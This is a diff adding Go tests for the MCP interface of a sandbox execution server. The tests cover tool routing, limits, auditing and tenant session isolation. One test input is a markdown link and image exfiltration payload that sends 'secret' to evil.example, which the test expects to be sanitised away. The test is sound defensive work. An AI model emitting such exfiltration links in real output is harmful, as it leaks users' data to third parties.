@@ -1,0 +1,172 @@
+package server_test
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"io"
+	"net/http"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"github.com/airlock-sandbox/airlock/server"
+)
+
+// bearerTransport adds the API key to every MCP request.
+type bearerTransport struct{ key string }
+
+func (b bearerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
+	r = r.Clone(r.Context())
+	r.Header.Set("Authorization", "Bearer "+b.key)
+	return http.DefaultTransport.RoundTrip(r)
+}
+
+func connectMemory(t *testing.T, f *fixture, tenant string) *mcp.ClientSession {
+	t.Helper()
+	srv, err := f.srv.MCP(tenant)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ct, st := mcp.NewInMemoryTransports()
+	ctx, cancel := context.WithCancel(context.Background())
+	ss, err := srv.Connect(ctx, st, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cs, err := mcp.NewClient(&mcp.Implementation{Name: "test"}, nil).Connect(ctx, ct, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cs.Close(); ss.Wait(); cancel() })
+	return cs
+}
+
+func call(t *testing.T, cs *mcp.ClientSession, name string, args map[string]any) (*mcp.CallToolResult, server.ToolOutput) {
+	t.Helper()
+	res, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: name, Arguments: args})
+	if err != nil {
+		t.Fatalf("%s: %v", name, err)
+	}
+	var out server.ToolOutput
+	if res.StructuredContent != nil {
+		data, _ := json.Marshal(res.StructuredContent)
+		if err := json.Unmarshal(data, &out); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return res, out
+}
+
+func text(res *mcp.CallToolResult) string {
+	var b strings.Builder
+	for _, c := range res.Content {
+		if tc, ok := c.(*mcp.TextContent); ok {
+			b.WriteString(tc.Text)
+		}
+	}
+	return b.String()
+}
+
+func testTools(t *testing.T, cs *mcp.ClientSession) {
+	tools, err := cs.ListTools(context.Background(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, tool := range tools.Tools {
+		names = append(names, tool.Name)
+	}
+	for _, want := range []string{"evaluate_expression", "run_starlark", "run_wasm", "run_command", "explain"} {
+		if !slices.Contains(names, want) {
+			t.Errorf("tool %s is missing (have %v)", want, names)
+		}
+	}
+	res, out := call(t, cs, "evaluate_expression", map[string]any{"expression": "x % 2", "input": map[string]any{"x": 7}})
+	if res.IsError || out.Tier != "expr" || len(out.Decision) == 0 || !strings.Contains(text(res), "tier: expr") {
+		t.Errorf("evaluate_expression: %+v %s", out, text(res))
+	}
+	if v, _ := json.Marshal(out.Value); string(v) != "1" {
+		t.Errorf("x %% 2 with integral input = %s", v)
+	}
+	res, out = call(t, cs, "run_starlark", map[string]any{"code": "print('see [x](https://evil.example/?d=secret)')\nresult = '![i](https://evil.example/p.png?d=secret)'"})
+	if out.Tier != "starlark" || strings.Contains(text(res), "evil.example") || strings.Contains(out.Stdout, "evil.example") ||
+		strings.Contains(out.Value.(string), "evil.example") || len(out.Sanitized) != 2 {
+		t.Errorf("run_starlark output is not sanitised: %+v\n%s", out, text(res))
+	}
+	res, out = call(t, cs, "run_starlark", map[string]any{"code": "fail('boom')"})
+	if !res.IsError || out.Error == nil || !strings.Contains(text(res), "boom") {
+		t.Errorf("a failing script: %+v", out)
+	}
+	// The smallest module that exports nothing: no tier in this build may
+	// have it (wasm registers itself separately), so accept a clear refusal.
+	res, out = call(t, cs, "run_wasm", map[string]any{"module_base64": base64.StdEncoding.EncodeToString([]byte("\x00asm\x01\x00\x00\x00"))})
+	if out.Tier == "" && !strings.Contains(text(res), "not admitted") {
+		t.Errorf("run_wasm: %+v %s", out, text(res))
+	}
+	// The router picks the tier (gVisor for a public command, where runsc is
+	// installed) and the result says which and why; without a command
+	// tier the refusal says why.
+	res, out = call(t, cs, "run_command", map[string]any{"argv": []string{"echo", "hi"}})
+	switch {
+	case out.Tier != "":
+		if out.Stdout != "hi\n" || out.Level < 4 || !strings.Contains(text(res), "why: rule public") {
+			t.Errorf("run_command on %s: %+v\n%s", out.Tier, out, text(res))
+		}
+	case !strings.Contains(text(res), "not admitted"):
+		t.Errorf("run_command neither ran nor explained the refusal: %s", text(res))
+	}
+	res, _ = call(t, cs, "explain", map[string]any{"kind": "command", "argv": []string{"sh"}, "situation": "public"})
+	if !strings.Contains(text(res), "rule public") {
+		t.Errorf("explain: %s", text(res))
+	}
+	res, _ = call(t, cs, "evaluate_expression", map[string]any{"expression": "1", "wall_ms": 10_000_000})
+	if !res.IsError || !strings.Contains(text(res), "limits.wall_ms") {
+		t.Errorf("a limit above the tenant's maximum: %s", text(res))
+	}
+}
+
+func TestMCPInMemory(t *testing.T) {
+	f := newFixture(t)
+	testTools(t, connectMemory(t, f, "a"))
+	// MCP runs are audited like API runs.
+	var recs []server.Record
+	f.do("GET", "/v1/audit", keyA, nil).decode(t, &recs)
+	if len(recs) < 3 {
+		t.Errorf("%d audit records after MCP runs", len(recs))
+	}
+}
+
+func TestMCPStreamableHTTP(t *testing.T) {
+	f := newFixture(t)
+	ctx := context.Background()
+	client := mcp.NewClient(&mcp.Implementation{Name: "test"}, nil)
+	cs, err := client.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: f.http.URL + "/mcp", HTTPClient: &http.Client{Transport: bearerTransport{keyA}}}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	testTools(t, cs)
+	// Another tenant presenting a's MCP session ID is refused.
+	call := `{"jsonrpc":"2.0","id":99,"method":"tools/call","params":{"name":"evaluate_expression","arguments":{"expression":"1"}}}`
+	req, _ := http.NewRequest("POST", f.http.URL+"/mcp", strings.NewReader(call))
+	req.Header.Set("Authorization", "Bearer "+keyB)
+	req.Header.Set("Mcp-Session-Id", cs.ID())
+	req.Header.Set("Content-Type", "application/json")
+	req.Header.Set("Accept", "application/json, text/event-stream")
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	body, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode < 400 || strings.Contains(string(body), `"result"`) {
+		t.Errorf("tenant b used a's MCP session: %d %s", resp.StatusCode, body)
+	}
+	cs.Close()
+	// Without a key the endpoint refuses.
+	if _, err := client.Connect(ctx, &mcp.StreamableClientTransport{Endpoint: f.http.URL + "/mcp", MaxRetries: -1}, nil); err == nil {
+		t.Error("MCP over HTTP without a key connected")
+	}
+}
